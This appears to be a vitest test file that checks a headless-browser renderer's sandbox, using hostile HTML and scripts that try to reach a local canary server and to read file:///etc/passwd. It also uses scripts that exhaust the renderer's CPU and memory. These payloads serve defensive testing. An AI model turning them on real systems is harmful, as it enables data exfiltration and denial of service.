/** Pages whose scripts attack whoever renders them: they reach nobody, and cost themselves only. */
import { createServer, type Server } from "node:net";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { Rendered, ToRender } from "#domain/rendering.ts";
import { browserPath, ensureBrowser } from "../../test/support/browser.ts";
import { partOf } from "../../test/support/part-of.ts";
import type { LabLimits } from "./limits.ts";
import { createRenderer } from "./renderer.ts";

const missing = await ensureBrowser();
const MB = 1024 * 1024;
/** A page that takes all its time takes a core, too. */
const SHORT: LabLimits = { ownTimeMs: 3_000, wholeTimeMs: 20_000, runMs: 6_000, answerMs: 5_000 };

/** Ways out of a page; `{canary}` is host and port of a server that must never hear of it. */
const WAYS_OUT = `<!doctype html><html><head>
  <link rel=preconnect href="http://{canary}"><link rel=dns-prefetch href="http://{canary}"><link rel=prefetch href="http://{canary}/p">
  <link rel=preload as=image href="http://{canary}/i"><link rel=modulepreload href="http://{canary}/m"><link rel=manifest href="http://{canary}/w"><link rel=icon href="http://{canary}/f">
  <link rel=stylesheet href="http://{canary}/s"><style>@import "http://{canary}/c"; body { background: url("http://{canary}/b") } @font-face { font-family: x; src: url("http://{canary}/t") } p { font-family: x }</style>
  <script type=speculationrules>{"prefetch":[{"source":"list","urls":["http://{canary}/r"]}],"prerender":[{"source":"list","urls":["http://{canary}/r2"]}]}</script>
  </head><body><p>Tea</p>
  <img src="http://{canary}/1"><video src="http://{canary}/2"></video><object data="http://{canary}/3"></object><embed src="http://{canary}/4">
  <iframe src="http://{canary}/5"></iframe><iframe srcdoc="<script>fetch('http://{canary}/6')</script>"></iframe><iframe src="file:///etc/passwd"></iframe>
  <form action="http://{canary}/7" method=post target=other><input name=a></form><a id=ping href="#x" ping="http://{canary}/8">x</a>
  <script>
    const quietly = (what) => { try { what()?.catch?.(() => {}) } catch {} };
    const at = (path) => "http://{canary}/" + path;
    quietly(() => navigator.sendBeacon(at("beacon"), "x"));
    quietly(() => fetch(at("post"), { method: "POST", keepalive: true, mode: "no-cors" }));
    quietly(() => fetch("file:///etc/passwd").then((r) => r.text()).then((text) => { document.title = text }));
    quietly(() => new WebSocket("ws://{canary}/ws"));
    quietly(() => new EventSource(at("events")));
    quietly(() => new WebTransport("https://{canary}/wt"));
    quietly(() => window.open(at("popup")));
    quietly(() => { const popup = window.open("about:blank"); popup.eval("fetch('" + at("from-popup") + "')"); });
    quietly(() => document.querySelector("form").submit());
    quietly(() => document.querySelector("#ping").click());
    quietly(() => navigator.serviceWorker.register("/sw.js"));
    const work = "fetch('" + at("worker") + "'); new WebSocket('ws://{canary}/worker'); importScripts('" + at("import") + "')";
    quietly(() => new Worker(URL.createObjectURL(new Blob([work], { type: "text/javascript" }))));
    quietly(() => new SharedWorker("data:text/javascript," + encodeURIComponent(work)));
    quietly(() => CSS.paintWorklet?.addModule(at("worklet")));
    quietly(() => {
      const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:{canary}" }, { urls: "turn:{canary}?transport=tcp", username: "a", credential: "b" }] });
      peer.createDataChannel("x");
      return peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    });
    quietly(() => { const frame = document.createElement("iframe"); document.body.append(frame); frame.contentWindow.fetch(at("frame")); });
  </script></body></html>`;

const COSTLY = [
  ["write to the console", "setInterval(() => { for (let i = 0; i < 100; i++) console.log('x'.repeat(1e5)) })"],
  ["fail again and again", "setInterval(() => { throw new Error('x'.repeat(1e6)) })"],
  ["ask for a thousand things at once", "for (let i = 0; i < 5000; i++) fetch('/x' + i)"],
  [
    "ask for pictures for ever",
    "setInterval(() => { for (let i = 0; i < 500; i++) new Image().src = '/' + Math.random() }, 4)",
  ],
  [
    "add to the page for ever",
    "setInterval(() => { for (let i = 0; i < 500; i++) document.body.append(document.createElement('p')) })",
  ],
  ["hold an endless loop", "for (;;);"],
  ["hold an endless loop of questions", "for (;;) alert(1)"],
  ["grow to 200 MB", "document.body.append('z'.repeat(200e6))"],
  [
    "nest a hundred thousand deep",
    "let e = document.body; for (let i = 0; i < 1e5; i++) { const d = document.createElement('div'); e.append(d); e = d }",
  ],
] as const;

describe.skipIf(missing !== undefined)("pages that attack with scripts", () => {
  let renderer: ReturnType<typeof createRenderer>;
  const canaries: Server[] = [];
  const places: string[] = [];
  let heard = 0;

  beforeAll(async () => {
    renderer = createRenderer({ browser: browserPath(), searchPath: "", limits: SHORT });
    for (const host of ["127.0.0.1", "::1"]) {
      const canary = createServer((socket) => {
        heard += 1;
        socket.destroy();
      });
      await new Promise<void>((resolve) => canary.listen(0, host, resolve));
      const { port } = canary.address() as { readonly port: number };
      places.push(host === "::1" ? `[::1]:${port}` : `127.0.0.1:${port}`);
      canaries.push(canary);
    }
    await render("<p>Warm</p>");
  });
  afterAll(async () => {
    await renderer?.close();
    for (const canary of canaries) canary.close();
  });

  function toRender(body: string, asked: string[] = []): ToRender {
    return {
      status: 200,
      headers: [["content-type", "text/html; charset=utf-8"]],
      body: Buffer.from(body),
      ...{ wireBytes: 0, ttfbMs: 0 },
      url: "https://tea.example/green",
      signal: new AbortController().signal,
      load: async ({ url }) => {
        asked.push(url);
        return "failed";
      },
    };
  }

  const render = (body: string, asked?: string[]): Promise<Rendered | null> => renderer.render(toRender(body, asked));

  it("reach nobody, by none of the ways out of a page", async () => {
    for (const place of places) {
      const asked: string[] = [];
      const rendered = await render(WAYS_OUT.replaceAll("{canary}", place), asked);
      expect(rendered?.html).toContain("<p>Tea</p>");
      expect(rendered?.html).not.toContain("root:");
      // What asks us is refused or answered by whoever crawls, who knows which addresses may be asked.
      expect(asked.filter((url) => !url.startsWith(`http://${place}/`))).toEqual([]);
    }
    expect(heard).toBe(0);
  }, 60_000);

  it("reach nobody while they are measured, and are held to little memory, too", async () => {
    const flood = "<script>setInterval(() => { for (let i = 0; i < 100; i++) console.log('x'.repeat(1e5)) })</script>";
    // A flooded page on a made-up phone takes its time to answer.
    const patient = createRenderer({ browser: browserPath(), searchPath: "", limits: { ...SHORT, answerMs: 30_000 } });
    for (const [at, place] of places.entries()) {
      const before = process.memoryUsage().rss;
      const page = WAYS_OUT.replaceAll("{canary}", place) + (at === 0 ? flood : "");
      const measured = await patient.measure(toRender(page));
      expect((process.memoryUsage().rss - before) / MB).toBeLessThan(64);
      expect(measured?.report.requests).toBe(1);
    }
    await patient.close();
    expect(heard).toBe(0);
  }, 400_000);

  it.each(partOf(COSTLY, 3))(
    "cost themselves only when they %s",
    async (_, script) => {
      const before = process.memoryUsage().rss;
      let most = before;
      const look = setInterval(() => {
        most = Math.max(most, process.memoryUsage().rss);
      }, 20);
      const renderOther = () => render("<p>Other</p><script>document.title = 'done'</script>");
      const [attack, beside] = await Promise.all([
        render(`<!doctype html><body><p>Tea</p><script>${script}</script>`),
        renderOther(),
      ]);
      // Beside a script that takes a whole core, a busy machine may not finish another page in its time.
      const other = beside ?? (await renderOther());
      clearInterval(look);
      // It may be beyond finishing; then it is read as it was sent.
      if (attack !== null) expect(attack.html.length).toBeLessThanOrEqual(10 * MB);
      expect(other?.html).toContain("<title>done</title>");
      expect((most - before) / MB).toBeLessThan(64);
      expect((await render("<p>After</p>"))?.html).toContain("After");
    },
    120_000,
  );
});
